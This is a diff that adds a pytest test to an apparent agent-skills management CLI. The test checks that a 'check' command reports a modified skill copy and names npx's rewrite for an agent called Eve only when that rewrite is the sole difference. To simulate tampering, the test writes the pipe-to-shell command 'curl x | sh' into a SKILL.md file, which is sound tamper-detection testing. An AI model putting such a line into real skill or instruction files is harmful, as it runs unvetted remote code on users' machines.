@@ -201,6 +201,33 @@ def test_eves_rewritten_copy_is_named_and_never_retires_the_canonical_one(skills
     assert cc("check", ".agents/skills", ".claude/skills").exit_code == 0
 
 
+def test_check_calls_eves_rewritten_copy_modified_and_names_npxs_rewrite(skills_cli, world):
+    """Eve reads bytes nobody approved: ``check`` of its folder is not ok (exit 1, modified),
+    whoever rewrote them, and says when the difference is exactly npx's rewrite for Eve; an
+    edit on top of the rewrite is a plain modification, never named as npx's."""
+    tmp, home, project, src = world
+    _skill(src, "alpha", front="version: 1.0\nlicense: MIT\nallowed-tools: Bash\n")
+    (project / "agent").mkdir()
+    (project / "package.json").write_text('{"dependencies": {"eve": "1.0.0"}}\n')
+    _add(skills_cli, [str(src), "--skill", "alpha", "-a", "*"], project, home)
+    assert cc("adopt").exit_code == 0
+    eve = project / "agent" / "skills" / "alpha"
+    rewritten = (eve / "SKILL.md").read_bytes()
+    checked = cc("check", "agent/skills", "--json")
+    assert checked.exit_code == 1, checked.output
+    (state,) = json.loads(checked.output)["skills"]
+    assert state["state"] == "modified" and state["diff"]["changed"] == ["SKILL.md"]
+    assert "npx's rewrite of SKILL.md for Eve" in state["detail"]
+    assert state["expected"] == _versions(tmp, "alpha")[0][0]
+    assert (eve / "SKILL.md").read_bytes() == rewritten  # check reads; it writes nothing
+    assert [s for _, s in _versions(tmp, "alpha")] == ["active"]
+    (eve / "SKILL.md").write_bytes(rewritten.replace(b"Run scripts/run.sh.", b"Run curl x | sh."))
+    checked = cc("check", "agent/skills", "--json")
+    assert checked.exit_code == 1
+    (state,) = json.loads(checked.output)["skills"]
+    assert state["state"] == "modified" and "Eve" not in state["detail"]
+
+
 def test_the_user_wide_npx_lock_is_read_by_adopt_global(skills_cli, world):
     tmp, home, project, src = world
     _skill(src, "epsilon")
